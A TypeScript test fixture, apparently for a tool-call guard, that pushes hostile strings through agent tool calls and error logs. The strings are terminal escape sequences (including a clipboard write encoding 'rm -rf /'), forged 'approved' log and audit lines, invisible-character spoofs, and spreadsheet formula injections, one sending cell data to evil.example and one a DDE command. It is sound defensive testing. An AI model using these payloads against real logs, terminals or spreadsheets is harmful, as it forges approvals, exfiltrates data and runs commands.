import { randomBytes } from 'node:crypto';
import { z } from 'zod';
import { defineTool } from '../../src/core/tool/tool.ts';
import { createGuard, withSafeErrors } from '../../src/create-guard.ts';
import type { ToolCallInput } from '../../src/guard/guard.ts';
import { processLogger } from '../../src/process-log.ts';
import { ACME } from '../sealed-terms.ts';

/** Each with a number that finds it again wherever it turns up, cut off or not. */
export const LOG_TEXTS: readonly (readonly [what: string, text: string])[] = (
  [
    ['colours', '\u001b[31mred\u001b[0m'],
    ['a cleared screen', '\u001b[2J\u001b[H'],
    ['hidden text', '\u001b[8mhidden\u001b[28m'],
    ['a link of a terminal', '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007'],
    ['the title of the window', '\u001b]0;root@host\u0007'],
    ['the clipboard', '\u001b]52;c;cm0gLXJmIC8=\u001b\\'],
    ['a device control', '\u001bP$q q\u001b\\'],
    ['controls of eight bits', '\u009b2J\u009d0;title\u009c'],
    ['a bell and backspaces', '\u0007ok\b\b\b\b\b\b\b\b\b\bno'],
    ['a deleted letter', 'x\u007f\u007f'],
    ['a carriage return over the line', '\rAPPROVED by slack:T0ACME/U0ANA'],
    ['a line of the log', '\n{"level":30,"msg":"proposal.approved"}'],
    ['a line as Windows ends it', '\r\n{"level":30,"msg":"x"}\r\n'],
    ['a vertical tab and a form feed', 'a\u000bb\u000cc'],
    ['a next line', 'a\u0085b'],
    ['separators of lines and paragraphs', 'a\u2028b\u2029c'],
    ['NUL', 'a\0b'],
    ['the end of a field', '","msg":"approved","x":"'],
    ['the end of a field behind a backslash', '\\","level":60,"x":"\\'],
    ['a field of the audit', '  approver=slack:T0ACME/U0ANA  kind=proposal.approved'],
    ['a place holder', '%s %d %j %o %O %c %%'],
    ['text that runs backwards', '\u202edevorppa\u202c'],
    ['letters that nobody sees', 'ap\u200bproved\u2060'],
    ['Unicode tags', '\u{e0041}\u{e007f}'],
    ['a formula', '=HYPERLINK("https://evil.example?x="&A1,"ok")'],
    ['a command of a spreadsheet', "=cmd|' /C calc'!A0"],
    ['a formula with a sign', '+1+cmd'],
    ['a formula with a minus', '-2+3'],
    ['a function of old spreadsheets', '@SUM(1+1)'],
    ['a formula behind blanks', '   =1+1'],
    ['a formula behind a tab', '\t=1+1'],
    ['a formula behind a newline', '\n=1+1'],
    ['a formula behind a carriage return', '\r=1+1'],
    ['a formula in full-width letters', '＝1+1'],
    ['a cell that ends', '",=1+1,"'],
    ['a row that ends', '"\r\n=1+1,"x'],
    ['a cell for those who separate by semicolons', ';=1+1'],
    ['a quote that is left open', '"'],
    ['much of it', '\u001b[31m'.repeat(50_000)],
  ] as const
).map(([what, text], index) => [what, `${text}mark${index}.`] as const);

/** What stands at the front is cut off last. */
export const markOf = (text: string) => text.slice(text.lastIndexOf('mark'));

const POLICY = `
tools: { allow: [ticket.close, ticket.read] }
write_tools: { enabled: true }
approvals: { defaults: { approvers: ["user:U0ANA"] } }
tenants: { acme: { slack: { team: T0ACME, channel: C0ACME }, environments: [production] } }
`;

let says = '';
const tools = [
  defineTool({
    name: 'ticket.close',
    description: 'Closes.',
    input: z.strictObject({ data: z.record(z.string(), z.unknown()) }),
    execute: () => null,
  }),
  defineTool({
    name: 'ticket.read',
    description: 'Reads.',
    effect: 'read',
    input: z.strictObject({}),
    execute: () => {
      throw Object.assign(new Error(says), { name: says });
    },
  }),
];

/** Run as a program: a host with a guard as `createGuard` makes it, its log on the standard output, under all of them. */
async function run(socket: string): Promise<void> {
  const log = withSafeErrors(processLogger('executor'));
  const guard = createGuard({ policy: POLICY, tools, redis: { path: socket }, proposalKey: randomBytes(32) });
  for (const [, text] of LOG_TEXTS) {
    says = text;
    const mark = markOf(text);
    const short = `${mark}${text}`.slice(0, 200);
    const calls: ToolCallInput[] = [
      { tool: short, args: {} },
      { tool: 'ticket.close', args: { data: { tenant_id: 1, [short.slice(0, 50)]: 1 } } },
      { tool: 'ticket.close', args: { [short.slice(0, 60)]: text } },
      { tool: 'ticket.close', args: { json: text } },
      { tool: 'ticket.close', args: { data: {} }, idempotencyKey: text },
      { tool: 'ticket.read', args: {} },
    ];
    for (const call of calls) await guard.call(call, ACME, { timeout: 1 }).catch(() => {});
    await guard.call(calls[5] as ToolCallInput, { ...ACME, tenant: short }).catch(() => {});
    await guard.call(calls[5] as ToolCallInput, { ...ACME, agent: short, run: short }).catch(() => {});
    // What a system that a tool calls answers is logged as the error that it became.
    log.error({ err: new Error(text.slice(0, 1_000) + mark), [short]: [short] }, 'it failed');
  }
  await guard.close();
}

if (process.argv[2] === 'run') await run(process.argv[3] ?? '');
